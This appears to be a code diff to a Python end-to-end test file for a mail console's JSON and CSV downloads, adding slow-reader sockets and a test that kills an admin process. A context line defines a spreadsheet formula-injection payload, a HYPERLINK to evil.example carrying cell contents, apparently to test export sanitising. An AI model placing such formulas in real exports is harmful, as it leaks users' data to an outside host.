@@ -7,6 +7,7 @@ import json
 import os
 import re
 import signal
+import socket
 import urllib.parse
 
 import pytest
@@ -15,7 +16,7 @@ from e2e.test_console_login import ANNA, CLEO, DAN, console_password, served
 from e2e.test_console_pages import log_in
 from harness.client import login, message
 from harness.console import Reader
-from harness.process import wait_until
+from harness.process import PATIENCE, wait_until
 
 NAME = re.compile(r'attachment; filename="subgate-\d{4}-\d\d-\d\d-\d{6}\.(json|csv)"')
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -111,7 +112,13 @@ def test_downloads_are_for_those_who_may_search(start, upstream, authority):
 
 
 def begin(console, reader):
+    """Its receiver's window is small, so that it's the console that holds what has not been read."""
     connection = console.connect()
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.settimeout(PATIENCE)
+    sock.connect(("127.0.0.1", console.port))
+    connection.sock = console.context.wrap_socket(sock)
     connection.request("GET", "/mail/download?format=json&user=" + DAN, headers={"Cookie": reader.cookie})
     return connection, connection.getresponse()
 
@@ -140,3 +147,23 @@ def test_slow_readers_hold_nothing_up_and_a_broken_download_is_seen(start, upstr
     password = console_password(subgate, CLEO)
     wait_until(lambda: reader.log_in(CLEO, password)[0] == 303, "the next admin process")
     assert len(download(console, reader, "json", user=DAN)[2]["records"]) == 20000
+
+
+@pytest.mark.seconds(20)
+def test_a_last_part_keeps_its_place_until_it_is_read(start, upstream, authority):
+    subgate, console = served(start, upstream, authority)
+    reader = log_in(console, subgate, CLEO)
+    write_records(subgate, 200, DAN, 2000 * "x")  # one part, larger than what sockets hold
+    slow = [begin(console, reader) for _ in range(2)]
+    try:
+        assert download(console, reader, "json")[0] == 503
+        assert len(json.loads(slow[1][1].read())["records"]) == 200
+        wait_until(lambda: download(console, reader, "json")[0] == 200, "the place of one that was read")
+        # The other lacks no part, so it needs no admin process.
+        victim, = subgate.pids("admin")
+        os.kill(victim, signal.SIGKILL)
+        wait_until(lambda: victim not in subgate.pids("admin"), "admin's end")
+        assert len(json.loads(slow[0][1].read())["records"]) == 200
+    finally:
+        for connection, _ in slow:
+            connection.close()
